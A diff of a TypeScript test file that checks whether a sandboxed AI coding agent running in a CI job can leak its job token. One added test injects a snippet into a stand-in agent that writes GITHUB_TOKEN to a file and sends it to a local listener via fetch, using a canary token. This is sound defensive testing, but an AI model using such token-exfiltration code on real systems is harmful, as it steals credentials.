@@ -1,4 +1,4 @@
-import { chmodSync, copyFileSync, mkdirSync } from 'node:fs'
+import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { dirname, join } from 'node:path'
@@ -10,6 +10,48 @@ import { skillFile, temporaryFolder, triggerSet } from '../support/cli.ts'
 // The jobs of docs/job-token.md, one after the other, as init writes them.
 
 const TOKEN = 'ghs_plantedcanarytokenofajob000000000000'
+const STAND_IN = join(import.meta.dirname, '../support/stand-ins/copilot.cjs')
+
+/** A PATH with a program in place of Copilot. */
+function standIn(folder: string, program: string): string {
+  const bin = join(folder, 'bin')
+  mkdirSync(bin)
+  writeFileSync(join(bin, 'copilot'), program)
+  chmodSync(join(bin, 'copilot'), 0o755)
+  return [bin, dirname(process.execPath), process.env['PATH'] ?? ''].join(':')
+}
+
+/** That PATH, without the program of the sandbox: what the gate and the agent need, by links. */
+function withoutBubblewrap(folder: string, path: string): string {
+  const bin = join(folder, 'few')
+  mkdirSync(bin)
+  for (const name of ['git', 'sh', 'env']) {
+    const found = path
+      .split(':')
+      .map((one) => join(one, name))
+      .find((one) => existsSync(one))
+    if (found !== undefined) symlinkSync(found, join(bin, name))
+  }
+  return [join(folder, 'bin'), dirname(process.execPath), bin].join(':')
+}
+
+/** A server that anybody could be told something by. */
+async function listener() {
+  const requests: string[] = []
+  const server = createServer((request, response) => {
+    requests.push(request.url ?? '')
+    response.end()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return {
+    requests,
+    port: (server.address() as AddressInfo).port,
+    async [Symbol.asyncDispose]() {
+      server.close()
+    },
+  }
+}
+
 const apples = ['alkmene', 'bramley', 'orange', 'dabinett']
 const configFor = (agent: string) => `version: 1\nagent: {id: ${agent}, model: claude-haiku-4.5, auth: job-token}\n`
 
@@ -63,13 +105,37 @@ describe.skipIf(skippedWithoutSandbox("the jobs of an agent that asks with a job
       const made = await lossy('copilot')
       await using scene = made.scene
       await using folder = temporaryFolder()
-      const bin = join(folder.path, 'bin')
-      mkdirSync(bin)
-      copyFileSync(join(import.meta.dirname, '../support/stand-ins/copilot.cjs'), join(bin, 'copilot'))
-      chmodSync(join(bin, 'copilot'), 0o755)
-      const PATH = [bin, dirname(process.execPath), process.env['PATH'] ?? ''].join(':')
+      const PATH = standIn(folder.path, readFileSync(STAND_IN, 'utf8'))
       const { opened, decided } = await threeJobs(made, { PATH }, { PATH })
       expect([opened, decided.outputs['decision'], shown(scene)]).toEqual(['in_progress', 'regressed', 'failure'])
+    })
+
+    test.each([
+      ['with bubblewrap starts, and can tell the token to nobody', true],
+      ['without it does not start, so that nobody has the token', false],
+    ])('an agent that would tell its token %s', async (_, hasSandbox) => {
+      const made = await lossy('copilot')
+      await using scene = made.scene
+      await using folder = temporaryFolder()
+      await using heard = await listener()
+      const told = join(folder.path, 'told')
+      const tell = `if (process.env.GITHUB_TOKEN) {
+  try { require('node:fs').writeFileSync(${JSON.stringify(told)}, process.env.GITHUB_TOKEN) } catch {}
+  fetch('http://127.0.0.1:${heard.port}/' + process.env.GITHUB_TOKEN).catch(() => {})
+}
+`
+      const PATH = standIn(
+        folder.path,
+        readFileSync(STAND_IN, 'utf8').replace(/^#!.*\n/, (first) => first + tell),
+      )
+      const only = hasSandbox ? PATH : withoutBubblewrap(folder.path, PATH)
+      const { measured, decided } = await threeJobs(made, { PATH: only }, { PATH: only })
+      expect([heard.requests, existsSync(told)]).toEqual([[], false])
+      for (const text of [measured.stdout, measured.stderr, measured.summary, decided.stdout, decided.summary])
+        expect(text).not.toContain(TOKEN)
+      expect(JSON.stringify(scene.github.state)).not.toContain(TOKEN)
+      if (hasSandbox) expect(decided.outputs['decision']).toBe('regressed')
+      else expect(scene.github.state.checks[0]?.title).toMatch(/sandbox|bubblewrap/i)
     })
 
     test('say in the check what kept the agent from being measured', async () => {
